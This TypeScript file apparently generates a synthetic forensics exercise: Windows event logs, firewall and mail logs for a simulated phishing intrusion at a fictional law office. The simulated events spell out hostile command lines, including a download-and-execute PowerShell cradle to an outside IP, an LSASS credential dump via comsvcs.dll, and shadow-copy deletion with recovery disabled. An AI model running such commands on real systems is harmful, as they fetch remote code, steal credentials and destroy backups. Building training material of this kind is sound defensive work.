import { writeEvtx } from "../evtx-writer/writer.ts";
import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { logoff, logon, toEvtxRecords, type WindowsEvent } from "../examples/windows.ts";
import { createLines, scatter, stampOf, syslogStamp, utc } from "./lines.ts";
import { defenderOff, serviceInstalled, sysmonAccess, sysmonConnection, sysmonProcess } from "./sysmon.ts";

const domain = "KANZLEI";
const command = "194.165.16.90";
const pc = "WS-07.kanzlei.example";
const server = "SRV-FILE.kanzlei.example";
const at = (ms: number) => `${new Date(ms).toISOString().slice(0, -1)}0000Z`;
const system = "C:\\Windows\\System32\\";
const powershell = `${system}WindowsPowerShell\\v1.0\\powershell.exe`;
const from = utc("2024-11-07 06:00:00");
const to = utc("2024-11-07 17:00:00");
const strike = utc("2024-11-07 09:14:20");

/** A law office: phishing mail, macro, encoded PowerShell, dump, PsExec and RDP to the file server, recovery removed. Europe/Berlin (UTC+1). */
export function officeIncident(): ExampleFile[] {
  const random = createRandom(1107);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "alert.json", content: alert },
    { path: "evidence/WS-07/Sysmon.evtx", content: evtx(workstation(random)) },
    {
      path: "evidence/WS-07/Defender.evtx",
      content: evtx([defenderOff({ time: at(strike + 400_000), computer: pc })]),
    },
    { path: "evidence/SRV-FILE/Security.evtx", content: evtx(fileServer(random)) },
    { path: "evidence/SRV-FILE/Sysmon.evtx", content: evtx(fileServerSysmon(random)) },
    { path: "evidence/SRV-FILE/System.evtx", content: evtx(services()) },
    { path: "evidence/network/fortigate.log", content: firewall(random) },
    { path: "evidence/mail/maillog", content: mail(random) },
  ];
}

const user = `${domain}\\lbrandt`;

function workstation(random: Random): WindowsEvent[] {
  return [...ordinaryWork(random), ...intrusion()];
}

function ordinaryWork(random: Random): WindowsEvent[] {
  const events: WindowsEvent[] = [];
  scatter(random, 700, from, to, (ms) => {
    const [image, line] = random.pick([
      ["C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer"],
      ["C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n Vertrag.docx"],
      [`${system}svchost.exe`, "svchost.exe -k netsvcs -p"],
      [`${system}backgroundTaskHost.exe`, "backgroundTaskHost.exe -ServerName:App"],
    ] as const);
    events.push(
      sysmonProcess(
        { time: at(ms), computer: pc },
        { user, image, parent: `${system}services.exe`, line, pid: random.between(900, 9000) },
      ),
    );
  });
  scatter(random, 700, from, to, (ms) =>
    events.push(
      sysmonConnection(
        { time: at(ms), computer: pc },
        {
          user,
          image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          from: "10.50.1.27",
          to: random.pick(["142.250.74.46", "13.107.42.14", "104.16.132.229"]),
          port: 443,
          sourcePort: random.between(49152, 65000),
        },
      ),
    ),
  );
  // The inventory agent's own script looks like an attacker's.
  for (const hour of [7, 11, 15])
    events.push(
      sysmonProcess(
        { time: at(utc(`2024-11-07 ${String(hour).padStart(2, "0")}:00:02`)), computer: pc },
        {
          user: "NT AUTHORITY\\SYSTEM",
          image: powershell,
          parent: "C:\\Program Files\\Inventory\\agent.exe",
          line: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Inventory\\collect.ps1"',
          pid: 8111,
        },
      ),
    );
  return events;
}

/** What the document started, second by second. */
function intrusion(): WindowsEvent[] {
  const events: WindowsEvent[] = [];
  const step = (offset: number, image: string, parent: string, line: string) =>
    events.push(
      sysmonProcess(
        { time: at(strike + offset * 1000), computer: pc },
        { user, image, parent, line, pid: 5120 + offset },
      ),
    );
  const encoded = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://194.165.16.90/a')",
    "utf16le",
  ).toString("base64");
  step(
    0,
    powershell,
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    `powershell.exe -nop -w hidden -enc ${encoded}`,
  );
  step(60, `${system}whoami.exe`, powershell, "whoami /all");
  step(75, `${system}net.exe`, powershell, 'net group "Domain Admins" /domain');
  step(90, `${system}nltest.exe`, powershell, "nltest /domain_trusts");
  step(
    420,
    `${system}rundll32.exe`,
    powershell,
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 700 C:\\Users\\Public\\l.dmp full",
  );
  events.push(
    sysmonAccess(
      { time: at(strike + 421_000), computer: pc },
      `${system}rundll32.exe`,
      `${system}lsass.exe`,
      "0x1FFFFF",
    ),
  );
  for (let i = 0; i < 60; i++)
    events.push(
      sysmonConnection(
        { time: at(strike + 2000 + i * 60_000), computer: pc },
        { user, image: powershell, from: "10.50.1.27", to: command, port: 443, sourcePort: 51_000 + i },
      ),
    );
  return events;
}

function fileServer(random: Random): WindowsEvent[] {
  const events: WindowsEvent[] = [];
  let id = 0x40000;
  scatter(random, 1200, from, to, (ms) => {
    const who = random.between(20, 29);
    const session = { computer: server, user: `user${who}`, domain, type: 3, logonId: ++id };
    events.push(
      logon({
        ...session,
        time: at(ms),
        address: `10.50.1.${who}`,
        port: random.between(49152, 65000),
        workstation: `WS-${who}`,
      }),
    );
    events.push(logoff({ ...session, time: at(ms + 9000) }));
  });
  // The administrator's own desktop session, every morning from his own machine.
  events.push(
    logon({
      time: at(utc("2024-11-07 06:40:00")),
      computer: server,
      user: "adm-roth",
      domain,
      type: 10,
      address: "10.50.1.10",
      port: 50_001,
      workstation: "WS-01",
      logonId: ++id,
    }),
  );
  events.push(
    logon({
      time: at(strike + 1_800_000),
      computer: server,
      user: "adm-roth",
      domain,
      type: 3,
      address: "10.50.1.27",
      port: 52_001,
      workstation: "WS-07",
      logonId: ++id,
    }),
  );
  events.push(
    logon({
      time: at(strike + 2_400_000),
      computer: server,
      user: "adm-roth",
      domain,
      type: 10,
      address: "10.50.1.27",
      port: 52_107,
      workstation: "WS-07",
      logonId: ++id,
    }),
  );
  return events;
}

function fileServerSysmon(random: Random): WindowsEvent[] {
  const events: WindowsEvent[] = [];
  scatter(random, 300, from, to, (ms) =>
    events.push(
      sysmonProcess(
        { time: at(ms), computer: server },
        {
          user: "NT AUTHORITY\\SYSTEM",
          image: `${system}svchost.exe`,
          parent: `${system}services.exe`,
          line: "svchost.exe -k LocalService",
          pid: random.between(900, 9000),
        },
      ),
    ),
  );
  const step = (offset: number, image: string, line: string) =>
    events.push(
      sysmonProcess(
        { time: at(strike + offset * 1000), computer: server },
        {
          user: `${domain}\\adm-roth`,
          image,
          parent: `${system}cmd.exe`,
          line,
          pid: 7000 + (offset % 900),
        },
      ),
    );
  step(1810, `${system}cmd.exe`, "cmd.exe /c hostname");
  step(2520, `${system}vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet");
  step(2530, `${system}bcdedit.exe`, "bcdedit.exe /set {default} recoveryenabled no");
  return events;
}

function services(): WindowsEvent[] {
  const events = ["Edge Update Service", "Inventory Agent"].map((name, i) =>
    serviceInstalled(
      { time: at(from + (i + 1) * 900_000), computer: server },
      name,
      `C:\\Program Files\\${name}\\svc.exe`,
    ),
  );
  return [
    ...events,
    serviceInstalled(
      { time: at(strike + 1_802_000), computer: server },
      "PSEXESVC",
      "%SystemRoot%\\PSEXESVC.exe",
    ),
  ];
}

function firewall(random: Random): string {
  const log = createLines();
  const add = (ms: number, from: string, to: string, port: number, action: string, sent: number) => {
    // Local time, and the device does not say in which zone.
    const { date, clock } = stampOf(ms, 1);
    log.add(
      ms,
      `date=${date} time=${clock} devname="FGT-KANZLEI" devid="FGT60F0000000002" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${from} srcport=${random.between(49152, 65000)} srcintf="lan" srcintfrole="lan" dstip=${to} dstport=${port} dstintf="wan1" dstintfrole="wan" sessionid=${random.between(1000, 9_999_999)} proto=6 action="${action}" policyid=2 service="HTTPS" duration=${random.between(1, 200)} sentbyte=${sent} rcvdbyte=${random.between(900, 90_000)}`,
    );
  };
  scatter(random, 2500, from, to, (ms) =>
    add(
      ms,
      `10.50.1.${random.between(20, 34)}`,
      random.pick(["142.250.74.46", "13.107.42.14", "104.16.132.229", "52.109.8.20"]),
      random.pick([443, 443, 80]),
      random.next() < 0.98 ? "close" : "deny",
      random.between(400, 60_000),
    ),
  );
  for (let i = 0; i < 60; i++) add(strike + 2000 + i * 60_000, "10.50.1.27", command, 443, "close", 1400);
  // A second machine met the same address and sent no log of its own.
  for (let i = 0; i < 4; i++) add(strike + 5_400_000 + i * 60_000, "10.50.1.31", command, 443, "close", 1400);
  return log.text();
}

function mail(random: Random): string {
  const log = createLines();
  const add = (ms: number, text: string) => log.add(ms, `${syslogStamp(ms, 1)} mx1 ${text}`);
  const deliver = (ms: number, sender: string, receiver: string, client: string) => {
    const id = random.between(0x10000000, 0x7fffffff).toString(16).toUpperCase();
    add(ms, `postfix/smtpd[2211]: ${id}: client=${client}`);
    add(
      ms + 100,
      `postfix/qmgr[901]: ${id}: from=<${sender}>, size=${random.between(2000, 90_000)}, nrcpt=1 (queue active)`,
    );
    add(
      ms + 400,
      `postfix/smtp[2218]: ${id}: to=<${receiver}>, relay=10.50.1.5[10.50.1.5]:25, delay=0.4, dsn=2.0.0, status=sent (250 2.0.0 Ok)`,
    );
  };
  scatter(random, 300, from, to, (ms) =>
    deliver(
      ms,
      random.pick(["info@gericht.example", "kunde@firma.example", "news@zeitung.example"]),
      `user${random.between(20, 29)}@kanzlei.example`,
      "mail.partner.example[192.0.2.30]",
    ),
  );
  deliver(strike - 600_000, "rechnung@kanzle1.example", "lbrandt@kanzlei.example", "unknown[194.165.16.91]");
  return log.text();
}

const evtx = (events: readonly WindowsEvent[]) => writeEvtx(toEvtxRecords(events));

const organisation = `name: Law office
timeZone: Europe/Berlin
operatingCountries: [DE, US, IE]
internalNetworks: [10.50.1.0/24]
gateways: [10.50.1.1]
domains: [kanzlei.example]
assets:
  - { name: WS-07, addresses: [10.50.1.27], role: workstation }
  - { name: WS-01, addresses: [10.50.1.10], role: administrator's workstation }
  - { name: SRV-FILE, addresses: [10.50.1.4], role: file server, critical: true }
`;

const alert = `${JSON.stringify({ rule: "Suspicious PowerShell command line", severity: "high", event_time: "2024-11-07T10:14:20+01:00", hostname: "WS-07", username: "KANZLEI\\lbrandt", process: "powershell.exe", device_action: "Detected" }, null, 2)}\n`;
